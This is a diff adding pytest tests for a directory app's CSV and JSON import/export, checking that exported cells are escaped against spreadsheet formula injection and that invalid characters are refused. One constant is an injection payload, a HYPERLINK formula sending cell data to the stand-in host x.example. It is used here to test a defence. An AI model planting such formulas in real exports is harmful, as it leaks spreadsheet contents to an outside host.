@@ -461,3 +461,86 @@ def test_json_export_masks_adapter_secrets_and_importing_it_back_keeps_them(demo
     with_site(demo_app, lambda site: dio.import_(site, actor, text, "json", known_adapters=adapters))
     kept = with_site(demo_app, lambda site: dict(site["directory"]["000.00.31.H49"].adapter_settings))
     assert kept["token"] == "s3cret-token"
+
+
+# --------------------------------------------------------------------------- CSV: formulas (issue 16, item 6)
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Bấm")'
+
+
+def _formulas_in(site):
+    """Units whose cells a spreadsheet would evaluate: address, phone, name, short name."""
+    unit = site["directory"]["000.00.02.H49"]
+    dirs.update_unit(
+        site, ADMIN, unit, {"address": FORMULA, "short_name": "@SUM(1+1)", "phone": "+84 254 3852"}
+    )
+
+
+@pytest.mark.parametrize("path", ["/manage/directory/export.csv", "/directory/export.csv"])
+def test_every_directory_csv_export_makes_cells_inert_for_a_spreadsheet(web, path):
+    import csv
+    import io
+
+    with_site(web.app, _formulas_in)
+    if path.startswith("/manage"):
+        login(web, "admin")
+    rows = list(csv.DictReader(io.StringIO(web.get(path).body.decode("utf-8-sig"))))
+    snv = next(r for r in rows if r["code"] == "000.00.02.H49")
+    assert snv["address"] == "'" + FORMULA
+    assert snv["short_name"] == "'@SUM(1+1)" and snv["phone"] == "'+84 254 3852"
+    assert snv["name"] == "Sở Nội vụ"  # nothing else changes
+    for row in rows:
+        for value in row.values():
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (row["code"], value)
+
+
+def test_an_escaped_csv_export_imports_back_unchanged(demo_app, fresh_app):
+    def export(site):
+        _formulas_in(site)
+        site["directory"]["000.00.03.H49"].address = "'quoted on purpose"
+        return dio.export(site, "csv")
+
+    first = with_site(demo_app, export)
+    assert "'" + FORMULA.replace('"', '""') in first
+    imported(fresh_app, first.encode("utf-8"))
+    unit = with_site(
+        fresh_app,
+        lambda site: (site["directory"]["000.00.02.H49"].address, site["directory"]["000.00.02.H49"].phone),
+    )
+    assert unit == (FORMULA, "+84 254 3852")
+    assert (
+        with_site(fresh_app, lambda site: site["directory"]["000.00.03.H49"].address) == "'quoted on purpose"
+    )
+    assert with_site(fresh_app, lambda site: dio.export(site, "csv")) == first
+
+
+def test_one_csv_writer_serves_every_export():
+    """No module but the one CSV writer (core/csvfile.py) writes CSV itself."""
+    import os
+
+    from .support.app import ROOT
+
+    writers = []
+    for top in ("core", "plugins"):
+        for folder, _dirs, files in os.walk(os.path.join(ROOT, top)):
+            for name in files:
+                if name.endswith(".py"):
+                    path = os.path.join(folder, name)
+                    with open(path, encoding="utf-8") as f:
+                        source = f.read()
+                    if "csv.writer(" in source or "csv.DictWriter(" in source:
+                        writers.append(os.path.relpath(path, ROOT))
+    assert writers == [os.path.join("core", "csvfile.py")]
+
+
+# --------------------------------------------------------------------------- text XML cannot carry (issue 16, item 2)
+@pytest.mark.parametrize("junk", ["\u000b", "\u0000", "\ufffe", "\ud800"])
+def test_an_import_refuses_text_xml_cannot_carry_naming_row_and_field(demo_app, junk):
+    csv_text = "code,name,address\r\n000.00.21.H49,Sở Ngoại vụ,Số 1" + junk + " Lê Lợi\r\n"
+    errors = rejected(demo_app, csv_text.encode("utf-8", "surrogatepass"))
+    # a lone surrogate is not UTF-8: the file as a whole is refused
+    assert [(row, field) for row, field, _m in errors] == [
+        (None, "file") if junk == "\ud800" else (2, "address")
+    ]
+    json_text = json.dumps([{"code": "000.00.21.H49", "name": "Sở" + junk + " Ngoại vụ"}])
+    errors = rejected(demo_app, json_text, "json")
+    assert [(row, field) for row, field, _m in errors] == [(1, "name")]
